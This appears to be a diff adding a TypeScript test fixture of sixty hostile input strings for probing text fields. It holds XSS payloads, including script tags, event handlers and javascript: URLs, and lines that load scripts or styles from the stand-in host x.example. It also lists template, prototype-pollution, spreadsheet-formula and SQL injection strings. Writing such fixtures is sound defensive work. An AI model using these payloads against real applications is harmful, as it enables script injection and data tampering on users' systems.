@@ -1,0 +1,63 @@
+/** What people write into text fields when they want it to run at the desk. Each would set `window.hit`, open a dialog or ask for a file. */
+const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onbegin', 'onanimationstart', 'onpointerenter', 'onwheel'];
+const TAGS = ['img src=x', 'svg', 'input autofocus', 'details open', 'animate', 'b style=animation:x', 'div', 'body'];
+
+const MARKUP: readonly string[] = [
+  '<script>hit=1</script>',
+  '<ScRiPt>hit=1</sCrIpT>',
+  '<script/src=data:,hit=1>',
+  '<script src=//x.example/a.js></script>',
+  '<<script>hit=1//<</script>',
+  '</script><script>hit=1</script>',
+  '</textarea><script>hit=1</script>',
+  '</title><script>hit=1</script>',
+  '--><script>hit=1</script>',
+  ']]><script>hit=1</script>',
+  '"><script>hit=1</script>',
+  `'><script>hit=1</script>`,
+  '<iframe src=javascript:parent.hit=1>',
+  '<iframe srcdoc="<script>top.hit=1</script>">',
+  '<object data=javascript:hit=1>',
+  '<embed src=javascript:hit=1>',
+  '<a href=javascript:hit=1>press</a>',
+  '<a href="java&#x09;script:hit=1">press</a>',
+  '<form action=javascript:hit=1><button>x</button>',
+  '<base href=//x.example/>',
+  '<link rel=stylesheet href=//x.example/a>',
+  '<meta http-equiv=refresh content=0;url=//x.example>',
+  '<style>@import"//x.example"</style>',
+  '<svg><script>hit=1</script></svg>',
+  '<svg><a xlink:href=javascript:hit=1>x</a></svg>',
+  '<math><mtext><img src=x onerror=hit=1>',
+  '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
+  '<template><img src=x onerror=hit=1></template>',
+  '<img src=x:x onerror=alert(1)>',
+  '<img srcset=x onerror=confirm(1)>',
+  '<video><source onerror=prompt(1)>',
+  '<audio src=x onerror=hit=1>',
+];
+const ELSEWHERE: readonly string[] = [
+  'javascript:hit=1',
+  'data:text/html,<script>hit=1</script>',
+  '{{constructor.constructor("hit=1")()}}',
+  '${hit=1}',
+  '#{hit=1}',
+  '<%= hit=1 %>',
+  '`${hit=1}`',
+  `';hit=1;//`,
+  '");hit=1;//',
+  '\\u003cscript\\u003ehit=1\\u003c/script\\u003e',
+  '&lt;script&gt;hit=1&lt;/script&gt;',
+  '%3Cscript%3Ehit=1%3C/script%3E',
+  '{"$$typeof":"x","type":"script"}',
+  '__proto__[hit]=1',
+  '=HYPERLINK("//x.example")',
+  '+cmd|x!A1',
+  '@SUM(1+1)',
+  `' OR 1=1--`,
+  '{plural, one {x} other {y}}',
+  '\u05d0\u05d1 <b onclick=hit=1>\u05d2</b>',
+];
+
+/** Sixty of them, each short enough for every field. */
+export const HOSTILE: readonly string[] = [...TAGS.map((tag, at) => `<${tag} ${HANDLERS[at]}=hit=1>`), ...MARKUP, ...ELSEWHERE];
